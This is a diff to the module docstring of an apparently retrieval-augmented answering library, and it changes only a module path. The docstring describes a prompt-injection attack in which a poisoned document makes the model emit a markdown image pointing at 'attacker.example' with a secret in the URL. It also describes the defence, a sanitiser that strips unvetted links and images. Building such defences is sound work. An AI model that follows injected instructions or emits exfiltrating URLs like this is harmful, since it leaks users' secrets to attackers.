@@ -2,7 +2,7 @@
 
 A chat UI renders the answer as markdown, and a markdown image is fetched as soon as it is shown.
 A poisoned document can ask the model to write ``![](https://attacker.example/p.png?q=<secret>)``;
-the prompt marks documents as data (:mod:`ragline.query.prompt`), and this is the second line of
+the prompt marks documents as data (:mod:`ragline.query.answer.prompt`), and this is the second line of
 defence, on the final answer text, whichever generator wrote it. Images, links, reference
 definitions, autolinks and bare URLs whose URL is not present in the cited chunks are taken out: an
 image entirely, a link down to its text, a bare or autolinked URL replaced by :data:`REMOVED`. Only
